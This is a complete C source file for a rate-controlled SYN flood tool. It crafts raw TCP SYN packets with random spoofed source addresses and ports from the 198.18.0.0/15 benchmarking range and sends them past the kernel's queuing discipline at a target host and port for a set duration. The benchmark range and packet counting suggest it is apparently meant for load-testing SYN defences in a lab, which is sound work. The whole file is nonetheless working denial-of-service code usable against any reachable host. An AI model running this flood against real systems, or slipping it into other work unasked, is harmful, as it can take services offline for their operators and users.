/*
 * A SYN flood at a steady rate, out of one interface, past the kernel's queues: each SYN from a
 * random address of 198.18.0.0/15 and a random port, as nobody there ever finishes a handshake.
 *
 *   syn_flood INTERFACE NEXT_MAC TARGET PORT RATE SECONDS
 *
 * It ends after so many seconds, or when its input ends, and then says how many packets it offered
 * and in how many nanoseconds. When it cannot keep up with the rate it sends what it can.
 */
#define _GNU_SOURCE

#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <linux/if_ether.h>
#include <linux/if_packet.h>

#define BATCH 64
#define FRAME_BYTES 60
#define IP_AT 14
#define TCP_AT (IP_AT + 20)

/* So many may be due at once; beyond it the rate is out of reach, and no burst makes up for it. */
#define BEHIND_MAX 2048

#define SOURCES 0xc6120000u /* 198.18.0.0/15 */
#define SOURCES_MASK 0x1ffffu
#define NS_PER_S 1000000000ULL

static uint8_t frames[BATCH][FRAME_BYTES];
static uint64_t random_state;

static void require(int works, const char *what)
{
	if (works)
		return;
	fprintf(stderr, "syn_flood: %s: %s\n", what, strerror(errno));
	exit(1);
}

static uint64_t now_ns(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * NS_PER_S + now.tv_nsec;
}

static uint64_t next_random(void)
{
	random_state ^= random_state << 13;
	random_state ^= random_state >> 7;
	random_state ^= random_state << 17;
	return random_state;
}

static void put16(uint8_t *at, uint32_t value)
{
	at[0] = value >> 8;
	at[1] = value;
}

static void put32(uint8_t *at, uint32_t value)
{
	put16(at, value >> 16);
	put16(at + 2, value);
}

static uint32_t sum(const uint8_t *at, int bytes)
{
	uint32_t total = 0;

	for (int i = 0; i < bytes; i += 2)
		total += at[i] << 8 | at[i + 1];
	return total;
}

static uint32_t folded(uint32_t total)
{
	total = (total & 0xffff) + (total >> 16);
	return ~((total & 0xffff) + (total >> 16)) & 0xffff;
}

/* All of a SYN but what differs: the source, its port and the sequence number. */
static void write_constant(uint8_t *frame, const uint8_t *to, const uint8_t *from, uint32_t target,
			   uint32_t port)
{
	memcpy(frame, to, ETH_ALEN);
	memcpy(frame + ETH_ALEN, from, ETH_ALEN);
	put16(frame + 12, ETH_P_IP);
	put16(frame + IP_AT, 0x4500);
	put16(frame + IP_AT + 2, 44);
	frame[IP_AT + 8] = 64;
	frame[IP_AT + 9] = IPPROTO_TCP;
	put32(frame + IP_AT + 16, target);
	put16(frame + TCP_AT + 2, port);
	put16(frame + TCP_AT + 12, 0x6002);
	put16(frame + TCP_AT + 14, 64240);
	put32(frame + TCP_AT + 20, 0x020405b4);
}

static void write_random(uint8_t *frame)
{
	uint64_t random = next_random();
	uint8_t *ip = frame + IP_AT;
	uint8_t *tcp = frame + TCP_AT;

	put32(ip + 12, SOURCES | (random & SOURCES_MASK));
	put16(ip + 10, 0);
	put16(ip + 10, folded(sum(ip, 20)));
	put16(tcp, 1024 + (random >> 20) % (65536 - 1024));
	put32(tcp + 4, random >> 32);
	put16(tcp + 16, 0);
	put16(tcp + 16, folded(sum(ip + 12, 8) + IPPROTO_TCP + 24 + sum(tcp, 24)));
}

static int open_interface(const char *name, uint8_t *own_mac)
{
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	struct sockaddr_ll at = {.sll_family = AF_PACKET, .sll_ifindex = if_nametoindex(name)};
	struct ifreq request = {};
	int bypass = 1;

	require(fd >= 0, "socket");
	require(at.sll_ifindex != 0, name);
	require(bind(fd, (struct sockaddr *)&at, sizeof(at)) == 0, "bind");
	require(setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &bypass, sizeof(bypass)) == 0,
		"bypass");
	strncpy(request.ifr_name, name, IFNAMSIZ - 1);
	require(ioctl(fd, SIOCGIFHWADDR, &request) == 0, "link address");
	memcpy(own_mac, request.ifr_hwaddr.sa_data, ETH_ALEN);
	return fd;
}

static void parse_mac(const char *text, uint8_t *mac)
{
	unsigned int part[ETH_ALEN];

	require(sscanf(text, "%x:%x:%x:%x:%x:%x", part, part + 1, part + 2, part + 3, part + 4,
		       part + 5) == ETH_ALEN, text);
	for (int i = 0; i < ETH_ALEN; i++)
		mac[i] = part[i];
}

static int input_ended(void)
{
	struct pollfd input = {.fd = STDIN_FILENO, .events = POLLIN};

	return poll(&input, 1, 0) > 0;
}

int main(int count, char **words)
{
	struct timespec pause = {.tv_nsec = 50000};
	struct mmsghdr messages[BATCH] = {};
	struct iovec parts[BATCH];
	uint8_t own_mac[ETH_ALEN], next_mac[ETH_ALEN];
	uint64_t began_ns, ns, end_ns, offered = 0, skipped = 0, looked_ns = 0;
	double per_ns;
	int fd;

	require(count == 7, "INTERFACE NEXT_MAC TARGET PORT RATE SECONDS");
	fd = open_interface(words[1], own_mac);
	parse_mac(words[2], next_mac);
	for (int i = 0; i < BATCH; i++) {
		write_constant(frames[i], next_mac, own_mac, ntohl(inet_addr(words[3])),
			       atoi(words[4]));
		parts[i] = (struct iovec){frames[i], FRAME_BYTES};
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	per_ns = atof(words[5]) / NS_PER_S;
	prctl(PR_SET_TIMERSLACK, 1UL);
	began_ns = now_ns();
	random_state = began_ns | 1;
	end_ns = (uint64_t)(atof(words[6]) * NS_PER_S);
	for (ns = 0; ns < end_ns; ns = now_ns() - began_ns) {
		uint64_t due = (uint64_t)(ns * per_ns) - skipped;
		int batch;

		if (ns - looked_ns > NS_PER_S / 100) {
			looked_ns = ns;
			if (input_ended())
				break;
		}
		if (due <= offered) {
			nanosleep(&pause, NULL);
			continue;
		}
		if (due - offered > BEHIND_MAX)
			skipped += due - offered - BEHIND_MAX;
		batch = due - offered < BATCH ? due - offered : BATCH;
		for (int i = 0; i < batch; i++)
			write_random(frames[i]);
		/* What finds no room is lost as on a wire: it was offered. */
		for (int sent = 0; sent < batch;) {
			int more = sendmmsg(fd, messages + sent, batch - sent, 0);

			sent += more > 0 ? more : 1;
		}
		offered += batch;
	}
	printf("%llu %llu\n", (unsigned long long)offered, (unsigned long long)ns);
	return 0;
}
